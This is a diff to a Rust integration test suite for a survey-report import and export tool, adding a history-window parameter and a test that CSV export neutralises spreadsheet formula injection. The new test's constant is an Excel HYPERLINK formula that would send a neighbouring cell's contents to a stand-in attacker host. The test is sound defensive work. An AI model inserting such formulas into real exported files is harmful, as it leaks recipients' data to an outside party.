@@ -6,6 +6,7 @@ use std::process::{Command, Output};
 
 use uppfolj_model::{Key, ResponseState};
 use uppfolj_store::Backend;
+use uppfolj_store::HistoryWindow;
 use uppfolj_store::testing::TestDb;
 
 fn data(path: &str) -> PathBuf {
@@ -121,9 +122,10 @@ async fn the_seed_builds_an_empty_database_and_a_second_import_changes_nothing(b
     );
     assert_eq!(
         db.store
-            .answer_history(&round, &organisation)
+            .answer_history(&round, &organisation, &HistoryWindow::all())
             .await
             .unwrap()
+            .changes
             .len(),
         17,
         "no duplicate history"
@@ -547,4 +549,56 @@ async fn every_organisation_of_a_round_gets_its_own_report_file() {
         .report;
     assert_eq!(read.questions().len(), 17, "Intraservice's questions");
     assert_eq!(std::fs::read_dir(&out).unwrap().count(), 41);
+}
+
+/// A comment that Excel would evaluate as a link sending the next cell away.
+const FORMULA: &str = "=HYPERLINK(\"http://angripare.example/?\"&B2;\"Läs mer\")";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_exported_comment_that_excel_would_evaluate_is_text() {
+    for backend in [Backend::Sqlite, Backend::Postgres] {
+        let db = TestDb::new(backend).await;
+        let dir = tempfile::tempdir().unwrap();
+        // The seed, with its first comment written as a formula.
+        let seed = std::fs::read_to_string(seed()).unwrap();
+        let first = "Våra tjänsteleveranser styrs av andra \ntyper av lagstiftning och säkerhetskrav och \ndärför blir det svaret nej kopplat till \nprogrammet/planerna. ";
+        assert!(seed.contains(first), "the seed's first comment");
+        let report = dir.path().join("rapport.txt");
+        std::fs::write(&report, seed.replacen(first, FORMULA, 1)).unwrap();
+        ok(uppfolj(
+            &db.url,
+            &[
+                "import",
+                "report",
+                report.to_str().unwrap(),
+                "--organisation",
+                "Nämnden för Intraservice",
+                "--round",
+                "2025",
+            ],
+        ));
+        let out = dir.path().join("svar.csv");
+        ok(uppfolj(
+            &db.url,
+            &[
+                "export",
+                "answers",
+                "--round",
+                "2025",
+                "--format",
+                "csv",
+                "--out",
+                out.to_str().unwrap(),
+            ],
+        ));
+        let text = String::from_utf8(std::fs::read(out).unwrap()[3..].to_vec()).unwrap();
+        let comments: Vec<String> = ::csv::ReaderBuilder::new()
+            .delimiter(b';')
+            .from_reader(text.as_bytes())
+            .records()
+            .map(|r| r.unwrap()[7].to_owned())
+            .collect();
+        assert_eq!(comments[0], format!("'{FORMULA}"), "{backend:?}");
+        assert!(comments.iter().all(|c| !c.starts_with('=')));
+    }
 }
